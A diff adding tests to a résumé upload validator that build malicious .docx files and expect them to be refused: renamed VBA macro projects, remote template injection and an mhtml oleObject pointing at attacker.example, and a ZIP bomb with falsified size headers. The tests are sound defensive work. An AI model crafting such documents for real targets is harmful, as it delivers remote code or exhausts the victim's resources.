@@ -70,6 +70,64 @@ describe("a résumé is what its bytes say", () => {
     expect(await checkResume(flagged, "cv.docx")).toEqual({ ok: false, problem: "docx-protected" });
   });
 
+  it("refuses macros declared under another name, and documents that fetch a template or an object from elsewhere", async () => {
+    // A VBA project stored as a .bin of any name, declared through a default content type and a relationship.
+    const renamed = await makeDocx({
+      contentTypesExtra: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+      extra: [
+        { name: "word/vbaData2.bin", data: Buffer.alloc(64, 1) },
+        {
+          name: "word/_rels/document.xml.rels",
+          data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaData2.bin"/></Relationships>',
+        },
+      ],
+    });
+    expect(await checkResume(renamed, "cv.docx")).toEqual({ ok: false, problem: "docx-macros" });
+    // An attached template on another site ("template injection"), and an object loaded from elsewhere.
+    for (const [type, target] of [
+      ["http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "http://attacker.example/evil.dotm"],
+      ["http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "mhtml:http://attacker.example/x.html!x-usc:x"],
+    ]) {
+      const remote = await makeDocx({
+        extra: [
+          {
+            name: "word/_rels/settings.xml.rels",
+            data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+          },
+        ],
+      });
+      expect(await checkResume(remote, "cv.docx"), type).toEqual({ ok: false, problem: "docx-external" });
+    }
+    // A link to the candidate's profile is an ordinary hyperlink, and welcome.
+    const linked = await makeDocx({
+      extra: [
+        {
+          name: "word/_rels/document.xml.rels",
+          data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/></Relationships>',
+        },
+      ],
+    });
+    expect(await checkResume(linked, "cv.docx")).toMatchObject({ ok: true, kind: "docx" });
+  });
+
+  it("refuses an entry whose directory understates what it unpacks to, wherever it is in the archive", async () => {
+    // 4 MB of zeros deflate to about 4 KB; the directory and the local header both claim 1,000 bytes.
+    const bomb = await makeDocx({ extra: [{ name: "word/media/image1.png", data: Buffer.alloc(4 * 1024 * 1024) }] });
+    const lying = Buffer.from(bomb);
+    const name = Buffer.from("word/media/image1.png");
+    for (const [signature, sizeAt] of [
+      [Buffer.from([0x50, 0x4b, 0x03, 0x04]), 22],
+      [Buffer.from([0x50, 0x4b, 0x01, 0x02]), 24],
+    ] as const) {
+      for (let at = lying.indexOf(signature); at !== -1; at = lying.indexOf(signature, at + 4)) {
+        const nameAt = at + (signature[2] === 0x03 ? 30 : 46);
+        if (lying.subarray(nameAt, nameAt + name.length).equals(name)) lying.writeUInt32LE(1000, at + sizeAt);
+      }
+    }
+    expect(await checkResume(bomb, "cv.docx")).toMatchObject({ ok: true });
+    expect(await checkResume(lying, "cv.docx")).toEqual({ ok: false, problem: "zip-damaged" });
+  });
+
   it("does not unpack a ZIP bomb: a huge [Content_Types].xml is refused, whether its size is declared or hidden", async () => {
     // 8 MB of spaces deflate to about 8 KB: a small file that inflates a thousandfold.
     const packed = await makeZip([
